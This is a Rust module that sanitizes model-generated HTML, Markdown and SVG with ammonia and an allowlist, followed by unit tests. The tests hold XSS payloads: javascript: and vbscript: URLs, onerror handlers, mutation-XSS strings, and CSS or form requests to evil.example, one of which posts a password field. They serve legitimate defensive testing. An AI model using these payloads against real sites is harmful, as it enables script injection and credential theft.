//! Turning model-written HTML, Markdown or SVG into markup that cannot run, load or send
//! anything: `ammonia` (html5ever's parser, an allowlist of elements and attributes, its checks
//! against namespace-switching mutation XSS) with toolgate's allowlist on top.
//!
//! What survives: text formatting, lists, tables, headings, links to `http:`, `https:` and
//! `mailto:` (opened with `noopener noreferrer`), images given inline as `data:image/...`, the
//! drawing elements of SVG with their presentation attributes, and inline `style` limited to
//! layout and colour properties. What goes: scripts and event handlers, `javascript:` and every
//! other URL scheme, relative URLs (they would reach toolgate's own server), remote images,
//! CSS `url()` and `@import`, `<style>`, `<meta>` (refresh), `<base>`, `<form>` and inputs,
//! frames, objects, SVG `<foreignObject>`, `<use>`, `<image>`, animations and `<script>`,
//! and comments. The served page adds a Content-Security-Policy that refuses the same things
//! again (`page.rs`), so a gap here is not a gap there.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

/// How a piece of canvas content is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// An HTML fragment (a whole document is reduced to its body).
    Html,
    /// CommonMark with tables, strikethrough and task lists; raw HTML in it is sanitized as HTML.
    Markdown,
    /// An `<svg>` drawing.
    Svg,
}

impl Format {
    /// `html`, `markdown`, `svg`.
    pub fn parse(name: &str) -> Option<Format> {
        match name {
            "html" => Some(Format::Html),
            "markdown" | "md" => Some(Format::Markdown),
            "svg" => Some(Format::Svg),
            _ => None,
        }
    }

    /// The format of `content` when the caller did not say: SVG when it opens with `<svg` (or
    /// an XML prolog), HTML when it opens with a tag, Markdown otherwise.
    pub fn detect(content: &str) -> Format {
        let head = content.trim_start();
        let lower: String = head.chars().take(5).collect::<String>().to_ascii_lowercase();
        if lower.starts_with("<svg") || lower.starts_with("<?xml") {
            Format::Svg
        } else if head.starts_with('<') {
            Format::Html
        } else {
            Format::Markdown
        }
    }

    /// Its name, as the tool's parameter spells it.
    pub fn name(self) -> &'static str {
        match self {
            Format::Html => "html",
            Format::Markdown => "markdown",
            Format::Svg => "svg",
        }
    }
}

/// `content` as safe HTML. With `scripts` (the operator's `[browser] canvas_scripts`), HTML is
/// kept as written (the page isolates it: `page.rs`); Markdown still becomes HTML.
pub fn to_safe_html(content: &str, format: Format, scripts: bool) -> String {
    let html = match format {
        Format::Markdown => markdown_to_html(content),
        Format::Html | Format::Svg => content.to_owned(),
    };
    if scripts { html } else { CLEANER.clean(&html).to_string() }
}

fn markdown_to_html(markdown: &str) -> String {
    use pulldown_cmark::{Options, Parser, html};
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, Parser::new_ext(markdown, options));
    out
}

/// HTML elements kept beyond ammonia's defaults (which are text-level and structural only).
const EXTRA_HTML: &[&str] = &["section", "main", "caption", "figure", "figcaption", "input"];

/// SVG elements kept: shapes, text, gradients, clipping and grouping. Not kept: `script`,
/// `foreignObject` (HTML inside SVG), `use` and `image` (they load other documents),
/// `a` (links with `xlink:href`), the animation elements (they can set `href` to a script
/// URL), `style`, filters with `feImage`.
const SVG_TAGS: &[&str] = &[
    "svg",
    "g",
    "path",
    "rect",
    "circle",
    "ellipse",
    "line",
    "polyline",
    "polygon",
    "text",
    "tspan",
    "textPath",
    "defs",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "marker",
    "symbol",
    "title",
    "desc",
];

/// Attributes on any kept element: presentation, layout and SVG geometry. URL attributes
/// (`href`, `src`) are per element and checked by ammonia's scheme list and [`filter`].
const ATTRIBUTES: &[&str] = &[
    "title",
    "lang",
    "dir",
    "class",
    "id",
    "style",
    "align",
    "valign",
    "width",
    "height",
    "colspan",
    "rowspan",
    "start",
    "reversed",
    "checked",
    "disabled",
    "alt",
    "open",
    "datetime",
    "viewBox",
    "preserveAspectRatio",
    "xmlns",
    "d",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "dx",
    "dy",
    "fx",
    "fy",
    "points",
    "transform",
    "fill",
    "fill-opacity",
    "fill-rule",
    "stroke",
    "stroke-width",
    "stroke-opacity",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-dasharray",
    "stroke-dashoffset",
    "opacity",
    "offset",
    "stop-color",
    "stop-opacity",
    "gradientUnits",
    "gradientTransform",
    "spreadMethod",
    "patternUnits",
    "patternTransform",
    "clip-path",
    "clipPathUnits",
    "clip-rule",
    "mask",
    "maskUnits",
    "marker-start",
    "marker-mid",
    "marker-end",
    "markerWidth",
    "markerHeight",
    "refX",
    "refY",
    "orient",
    "font-family",
    "font-size",
    "font-weight",
    "font-style",
    "text-anchor",
    "dominant-baseline",
    "letter-spacing",
    "textLength",
    "lengthAdjust",
    "visibility",
    "display",
    "pathLength",
    "rotate",
];

/// `style` properties kept (none takes a URL: no `background`, `background-image`, `cursor`,
/// `list-style`, `border-image`, `content`, `mask`, `filter`).
const STYLE_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "opacity",
    "font-family",
    "font-size",
    "font-weight",
    "font-style",
    "font-variant",
    "line-height",
    "letter-spacing",
    "word-spacing",
    "text-align",
    "text-decoration",
    "text-decoration-color",
    "text-decoration-line",
    "text-transform",
    "text-indent",
    "white-space",
    "vertical-align",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-width",
    "border-style",
    "border-radius",
    "border-collapse",
    "border-spacing",
    "width",
    "height",
    "min-width",
    "min-height",
    "max-width",
    "max-height",
    "display",
    "flex",
    "flex-direction",
    "flex-wrap",
    "flex-grow",
    "flex-shrink",
    "flex-basis",
    "gap",
    "row-gap",
    "column-gap",
    "align-items",
    "align-self",
    "align-content",
    "justify-content",
    "justify-items",
    "grid-template-columns",
    "grid-template-rows",
    "grid-column",
    "grid-row",
    "box-sizing",
    "overflow",
    "overflow-x",
    "overflow-y",
    "box-shadow",
    "text-shadow",
    "fill",
    "stroke",
    "stroke-width",
    "table-layout",
    "list-style-type",
    "float",
    "clear",
];

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(EXTRA_HTML)
        .add_tags(SVG_TAGS)
        .add_generic_attributes(ATTRIBUTES)
        .add_tag_attributes("img", &["src"])
        .add_tag_attribute_values("input", "type", &["checkbox"])
        // The contents of these go too, not just the tags.
        .add_clean_content_tags(&["foreignObject", "noscript", "template", "iframe", "object", "embed", "textarea"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "data"]))
        // A relative URL would reach toolgate's own server from the viewer's browser.
        .url_relative(ammonia::UrlRelative::Deny)
        .filter_style_properties(STYLE_PROPERTIES.iter().copied().collect())
        .attribute_filter(filter);
    builder
});

/// The checks ammonia's lists cannot express: `data:` only for inline images, no CSS or SVG
/// paint reference to anything but a fragment of the same drawing.
fn filter<'u>(element: &str, attribute: &str, value: &'u str) -> Option<Cow<'u, str>> {
    let lower = value.trim().to_ascii_lowercase();
    match attribute {
        "src" => {
            let image = ["data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;"]
                .iter()
                .any(|p| lower.starts_with(p));
            (element == "img" && image).then_some(Cow::Borrowed(value))
        }
        "href" if lower.starts_with("data:") => None,
        // CSS escapes and legacy expressions could spell what the property filter looks for.
        "style" if lower.contains('\\') || lower.contains("expression") || lower.contains('@') => None,
        _ if lower.contains("url(") => local_paint(&lower).then_some(Cow::Borrowed(value)),
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Whether every `url(...)` in `value` is `url(#name)`: a gradient, clip path or marker of the
/// same drawing.
fn local_paint(value: &str) -> bool {
    value.match_indices("url(").all(|(at, _)| {
        let rest = value[at + 4..].trim_start_matches([' ', '"', '\'']);
        rest.starts_with('#')
            && rest[1..].chars().take_while(|c| *c != ')').all(|c| c.is_ascii_alphanumeric() || "-_:. \"'".contains(c))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(s: &str) -> String {
        to_safe_html(s, Format::Html, false)
    }

    #[test]
    fn formats_are_detected() {
        assert_eq!(Format::detect("  <svg viewBox='0 0 1 1'/>"), Format::Svg);
        assert_eq!(Format::detect("<?xml version='1.0'?><svg/>"), Format::Svg);
        assert_eq!(Format::detect("<p>hi</p>"), Format::Html);
        assert_eq!(Format::detect("# Title\n\ntext"), Format::Markdown);
    }

    #[test]
    fn scripts_and_handlers_are_removed() {
        let out = html("<p onclick=\"alert(1)\">a</p><script>alert(2)</script><img src=x onerror=alert(3)>");
        assert!(!out.contains("alert"), "{out}");
        assert!(out.contains("<p>a</p>"), "{out}");
    }

    #[test]
    fn script_urls_are_removed() {
        for attack in [
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
        ] {
            let out = html(attack);
            assert!(!out.contains("href"), "{attack} -> {out}");
        }
        let out = html("<a href=\"https://example.com/\">x</a>");
        assert!(out.contains("href=\"https://example.com/\""), "{out}");
        assert!(out.contains("noopener noreferrer"), "{out}");
    }

    #[test]
    fn svg_scripts_and_foreign_objects_are_removed() {
        let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script>\
                   <foreignObject><body onload='alert(3)'><p>html</p></body></foreignObject>\
                   <a xlink:href='javascript:alert(4)'><text>t</text></a>\
                   <animate attributeName='href' to='javascript:alert(5)'/>\
                   <set attributeName='onload' to='alert(6)'/>\
                   <use href='https://evil.example/x.svg#a'/><image href='https://evil.example/i.png'/>\
                   <circle cx='5' cy='5' r='4' fill='red'/></svg>";
        let out = to_safe_html(svg, Format::Svg, false);
        for bad in ["alert", "script", "foreignObject", "evil.example", "animate", "<set", "<use", "<image"] {
            assert!(!out.contains(bad), "{bad}: {out}");
        }
        assert!(out.contains("<circle"), "{out}");
        assert!(out.contains("fill=\"red\""), "{out}");
    }

    #[test]
    fn svg_keeps_gradients_and_local_paint() {
        let svg = "<svg viewBox='0 0 10 10'><defs><linearGradient id='g'><stop offset='0' stop-color='blue'/>\
                   </linearGradient></defs><rect width='10' height='10' fill='url(#g)'/>\
                   <rect width='1' height='1' fill='url(https://evil.example/p.svg#g)'/></svg>";
        let out = to_safe_html(svg, Format::Svg, false);
        assert!(out.contains("<linearGradient"), "{out}");
        assert!(out.contains("fill=\"url(#g)\""), "{out}");
        assert!(!out.contains("evil.example"), "{out}");
    }

    #[test]
    fn css_cannot_reach_remote_hosts() {
        for attack in [
            "<p style=\"background-image: url(https://evil.example/a.png)\">x</p>",
            "<p style=\"color: red; background: url('//evil.example/a')\">x</p>",
            "<p style=\"width: 1px; list-style-image: url(https://evil.example/)\">x</p>",
            "<p style=\"color: \\75 rl(https://evil.example/)\">x</p>",
            "<p style=\"@import 'https://evil.example/x.css'\">x</p>",
            "<style>@import url(https://evil.example/x.css); p { color: red }</style><p>x</p>",
            "<link rel=stylesheet href=https://evil.example/x.css><p>x</p>",
        ] {
            let out = html(attack);
            assert!(!out.contains("evil.example"), "{attack} -> {out}");
        }
        let out = html("<p style=\"color: red; font-weight: bold; position: fixed\">x</p>");
        assert!(out.contains("color:red"), "{out}");
        assert!(!out.contains("position"), "{out}");
    }

    #[test]
    fn refresh_forms_frames_and_base_are_removed() {
        let out = html(
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">\
             <base href=\"https://evil.example/\">\
             <form action=\"https://evil.example/steal\" method=post><input name=p type=password>\
             <button formaction=\"https://evil.example/\">go</button></form>\
             <iframe src=\"https://evil.example/\"></iframe><object data=\"https://evil.example/\"></object>\
             <embed src=\"https://evil.example/\">",
        );
        assert!(!out.contains("evil.example"), "{out}");
        for tag in ["<meta", "<base", "<form", "<iframe", "<object", "<embed", "password"] {
            assert!(!out.contains(tag), "{tag}: {out}");
        }
    }

    #[test]
    fn images_only_inline() {
        let out = html("<img src=\"https://evil.example/track.png\"><img src=\"/api/approvals\">");
        assert!(!out.contains("src="), "{out}");
        let png = "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">";
        assert!(html(png).contains("src=\"data:image/png;base64,iVBORw0KGgo=\""), "{}", html(png));
        let svg_data = "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">";
        assert!(!html(svg_data).contains("src="), "{}", html(svg_data));
    }

    #[test]
    fn mutation_xss_through_namespaces_is_removed() {
        for attack in [
            "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">t",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ] {
            let out = html(attack);
            assert!(!out.contains("onerror"), "{attack} -> {out}");
        }
    }

    #[test]
    fn markdown_raw_html_is_sanitized() {
        let out = to_safe_html(
            "# Hi\n\n<script>alert(1)</script>\n\n[x](javascript:alert(2)) | a |\n",
            Format::Markdown,
            false,
        );
        assert!(out.contains("<h1>Hi</h1>"), "{out}");
        assert!(!out.contains("alert"), "{out}");
        let table = to_safe_html("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n", Format::Markdown, false);
        assert!(table.contains("<table>") && table.contains("<td>1</td>"), "{table}");
        assert!(table.contains("checkbox"), "{table}");
    }

    #[test]
    fn scripts_kept_only_when_allowed() {
        let out = to_safe_html("<p>x</p><script>draw()</script>", Format::Html, true);
        assert!(out.contains("<script>draw()</script>"), "{out}");
    }
}
